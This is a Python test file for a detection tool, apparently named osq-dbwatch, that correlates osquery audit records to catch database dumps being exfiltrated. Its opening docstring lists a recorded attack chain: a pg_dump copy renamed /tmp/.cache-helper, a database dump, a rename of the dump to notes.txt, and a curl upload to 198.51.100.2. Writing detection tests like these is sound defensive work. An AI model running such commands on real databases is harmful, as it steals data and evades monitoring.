"""Issue 13, items 1, 4 (renames) and 7: database access seen from the network, and renamed dumps.

The chains were run for real on this machine (tests/recordings/issue13/record_issue13.sh, as root: a
PostgreSQL server, a login user whose loginuid is set, kernel audit through auditd, inotifywait on the dump
directory, an upload sink at 198.51.100.2 in a network namespace):

    cp /usr/lib/postgresql/15/bin/pg_dump /tmp/.cache-helper
    /tmp/.cache-helper -h 127.0.0.1 -U app -f /tmp/dbw13rec/y.sql shop
    curl -s -m 10 -T /tmp/dbw13rec/y.sql http://198.51.100.2:8080/u
    /tmp/.cache-helper -h <socket dir> -U app -f /tmp/dbw13rec/z.sql shop      (over the Unix socket)
    mv /tmp/dbw13rec/z.sql /tmp/dbw13rec/notes.txt
    curl -s -m 10 -T /tmp/dbw13rec/notes.txt http://198.51.100.2:8080/u

tests/audit_replay.py converts the raw audit and inotify records into osquery 5.23.1's rows, runs the
shipped pack's SQL over them and writes the result lines; `osq-dbwatch correlate` judges them.
"""

from __future__ import annotations

import json
from typing import Any

import audit_replay as A
from correlate_scenarios.helpers import correlate, final_by_chain, reason_codes
from correlate_scenarios.make_scenarios import MON, Log

from osq_dbwatch.config import parse_config
from osq_dbwatch.pack import render

CONFIG = """\
admins:
  groups: [dba]
service_accounts: [backup]
internal_networks: [10.0.0.0/8]
"""
USER = "dbw_mallory"
UID = 1002
USERS = {0: "root", 1002: USER, 113: "postgres"}


def recording() -> A.Recording:
    return A.load("issue13")


def lines_for(rec: A.Recording, host: str, begin: str, end: str, allow_unix: bool,
              groups: dict[str, list[str]] | None = None) -> list[str]:
    events = [e for e in rec.audit if e.time < rec.marks["renamed-begin"]] + rec.between(begin, end)  # login first
    files = [f for f in A.file_events(f"{rec.path}/inotify.log", f"{rec.path}/stat.log")
             if rec.marks[begin] <= f["time"] <= rec.marks[end]]
    shell = {**rec.shell, "uid": UID, "parent": 0}
    return A.replay(host, events, files, USERS, [shell], allow_unix, groups)


def run(tmp_path: Any, lines: list[str], config: str = CONFIG) -> list[dict[str, Any]]:
    log = tmp_path / "osqueryd.results.log"
    log.write_text("\n".join(lines) + "\n")
    cfg = tmp_path / "config.yml"
    cfg.write_text(config)
    return correlate(["--config", str(cfg), str(log)], str(tmp_path / "state.sqlite"), str(tmp_path / "out.jsonl"))


def queries_of(lines: list[str]) -> list[str]:
    return [json.loads(line)["name"].removeprefix("pack_dbwatch_") for line in lines]


# -- items 1 and 7: the renamed pg_dump -------------------------------------------------------


def test_the_pack_logs_the_renamed_clients_database_connect() -> None:
    """db_cli_exec matches clients by name and misses /tmp/.cache-helper; db_connect sees its connect to
    127.0.0.1:5432 (loopback kept: databases are often local), and db_egress still ignores loopback."""
    rec = recording()
    lines = lines_for(rec, "rec-renamed", "renamed-begin", "renamed-end", allow_unix=False)
    names = queries_of(lines)
    assert "db_cli_exec" not in names
    assert names.count("db_connect") == 1
    row = next(json.loads(x)["columns"] for x in lines if '"pack_dbwatch_db_connect"' in x)
    assert row["path"] == "/tmp/.cache-helper" and row["remote_address"] == "127.0.0.1"
    assert row["remote_port"] == "5432" and row["status"] == "in_progress" and row["login_user"] == USER
    assert names.count("db_egress") == 1  # curl's upload connect; not the loopback database connect


def test_a_renamed_pg_dump_with_a_dump_and_an_upload_is_high(tmp_path) -> None:
    """Before db_connect: no finding at all (nothing opened a chain). Now: access + dump + egress, high."""
    rec = recording()
    findings = run(tmp_path, lines_for(rec, "rec-renamed", "renamed-begin", "renamed-end", allow_unix=False))
    chains = list(final_by_chain(findings).values())
    assert len(chains) == 1, [c["unmapped"]["reasons"] for c in chains]
    (f,) = chains
    assert f["severity_id"] == 4, f["unmapped"]["reasons"]
    assert f["actor"]["user"]["name"] == USER
    assert f["unmapped"]["stages"] == ["access", "dump", "egress"]
    codes = set(reason_codes(f))
    assert {"network-seen-access", "from-connect", "dump-after-access", "egress-after-dump"} <= codes
    access = next(e for e in f["evidences"] if e.get("data", {}).get("stage") == "access")
    assert access["data"]["tool"] == ".cache-helper" and access["data"]["engine"] == "postgres"
    assert access["data"]["db_port"] == 5432
    assert [e["file"]["path"] for e in f["evidences"] if "file" in e] == ["/tmp/dbw13rec/y.sql"]


def test_a_unix_socket_connect_needs_audit_allow_unix(tmp_path) -> None:
    """Over the Unix socket the renamed client is seen only where osqueryd runs with --audit_allow_unix."""
    rec = recording()
    without = lines_for(rec, "rec-unix", "unix-begin", "unix-end", allow_unix=False)
    assert "db_connect" not in queries_of(without)
    assert run(tmp_path, without) == []
    with_unix = lines_for(rec, "rec-unix", "unix-begin", "unix-end", allow_unix=True)
    assert queries_of(with_unix).count("db_connect") == 1
    (tmp_path / "unix").mkdir()
    (f,) = final_by_chain(run(tmp_path / "unix", with_unix)).values()
    assert f["severity_id"] == 4, f["unmapped"]["reasons"]
    access = next(e for e in f["evidences"] if e.get("data", {}).get("stage") == "access")
    assert access["data"]["db_socket"].endswith("/.s.PGSQL.5432")


# -- item 4: a dump renamed before its upload ---------------------------------------------------


def test_the_pack_keeps_both_halves_of_a_dumps_rename() -> None:
    rec = recording()
    lines = lines_for(rec, "rec-unix", "unix-begin", "unix-end", allow_unix=True)
    files = [json.loads(x)["columns"] for x in lines if '"pack_dbwatch_dump_file_events"' in x]
    moves = [(r["action"], r["target_path"], r["inode"]) for r in files if r["action"].startswith("MOVED")]
    # osquery stats the old name after the move: no inode; the new name has the file's inode.
    assert moves == [("MOVED_FROM", "/tmp/dbw13rec/z.sql", ""), ("MOVED_TO", "/tmp/dbw13rec/notes.txt", "2425382")]


def test_a_dump_renamed_to_txt_before_its_upload_stays_in_the_chain(tmp_path) -> None:
    rec = recording()
    (f,) = final_by_chain(run(tmp_path, lines_for(rec, "rec-unix", "unix-begin", "unix-end",
                                                  allow_unix=True))).values()
    assert f["severity_id"] == 4, f["unmapped"]["reasons"]
    assert "linked-by-rename" in reason_codes(f)
    files = {e["file"]["path"]: e["data"] for e in f["evidences"] if "file" in e}
    assert files["/tmp/dbw13rec/notes.txt"]["renamed_from"] == "/tmp/dbw13rec/z.sql"
    upload = next(e for e in f["evidences"] if e.get("data", {}).get("stage") == "egress"
                  and "notes.txt" in e["process"].get("cmd_line", ""))
    assert upload["dst_endpoint"]["hostname"] == "198.51.100.2"


def test_a_rename_of_an_unrelated_file_joins_nothing(tmp_path) -> None:
    """A MOVED_TO with no MOVED_FROM of a chain's dump just before it is not the chain's."""
    log = Log()
    host, t = "dev-30", MON + 10 * 3600
    log.db_exec(host, t, "eve", 1001, "psql -d shop -c \\copy t to '/tmp/a.csv' csv", "/usr/bin/psql", 800,
                "/usr/bin/bash", "-bash")
    log.dump_file(host, t + 1, "/tmp/a.csv", "eve", 1001)
    log.event("dump_file_events", host, t + 5, {"action": "MOVED_FROM", "inode": "", "owner": "", "sha256": "",
                                                "size": "", "target_path": "/tmp/other.sql", "time": t + 5, "uid": ""})
    # bob's own rename, seconds after another MOVED_FROM: not the chain's file (and not eve's).
    log.event("dump_file_events", host, t + 9, {"action": "MOVED_TO", "inode": 5, "owner": "bob", "sha256": "",
                                                "size": 10, "target_path": "/tmp/report.txt", "time": t + 9,
                                                "uid": 1005})
    (f,) = final_by_chain(run(tmp_path, log.lines)).values()
    assert "linked-by-rename" not in reason_codes(f)
    assert "/tmp/report.txt" not in {e["file"]["path"] for e in f["evidences"] if "file" in e}


# -- what db_connect does not open -----------------------------------------------------------------


def connect_row(log: Log, host: str, t: int, pid: int, path: str, user: str, port: int = 5432,
                address: str = "127.0.0.1", auid: int = 1001, status: str = "in_progress") -> None:
    log.event("db_connect", host, t, {"auid": auid, "family": 2, "login_user": user, "path": path, "pid": pid,
                                      "remote_address": address, "remote_port": port, "socket": "",
                                      "status": status, "success": 1, "time": t})


def test_known_clients_admins_allowed_programs_and_failed_connects_open_nothing(tmp_path) -> None:
    log = Log()
    t = MON + 11 * 3600
    # A known client's own connect (its exec is the access; the pack leaves it out, the correlator too).
    connect_row(log, "db-31", t, 900, "/usr/lib/postgresql/15/bin/psql", "eve")
    # A DBA's script (admins.users) and an allowed application (allow rule on user and tool).
    connect_row(log, "db-32", t, 901, "/usr/bin/python3.11", "alice")
    connect_row(log, "db-33", t, 902, "/opt/etl/bin/loader", "etl")
    # A failed connect is no access; a row without a login user (no session) opens nothing.
    connect_row(log, "db-34", t, 903, "/tmp/x", "eve", status="failed")
    connect_row(log, "db-35", t, 904, "/tmp/x", "", auid=4294967295)
    config = CONFIG.replace("admins:\n", "admins:\n  users: [alice]\n") + (
        "allow:\n  - user: etl\n    tool: loader\n")
    assert run(tmp_path, log.lines, config) == []


def test_a_scripts_database_connect_in_a_login_session_is_a_low_access(tmp_path) -> None:
    log = Log()
    connect_row(log, "db-36", MON + 11 * 3600, 910, "/usr/bin/python3.11", "eve", port=3306, address="10.1.2.3")
    (f,) = final_by_chain(run(tmp_path, log.lines)).values()
    assert f["severity_id"] == 2
    assert "network-seen-access" in reason_codes(f)
    access = f["evidences"][0]["data"]
    assert (access["tool"], access["engine"], access["db_host"], access["db_port"]) == ("python3.11", "mysql",
                                                                                     "10.1.2.3", 3306)


def test_the_db_port_list_is_the_catalogs() -> None:
    from osq_dbwatch import catalog
    sql = render.build_pack(render.PACK_FILES[0], parse_config(""))["queries"]["db_connect"]["query"]
    for port, _engine in catalog.DB_PORTS:
        assert f"{port}" in sql
    for wanted in (5432, 3306, 27017, 6379, 1433, 1521, 9042, 8123, 9000):
        assert wanted in dict(catalog.DB_PORTS)
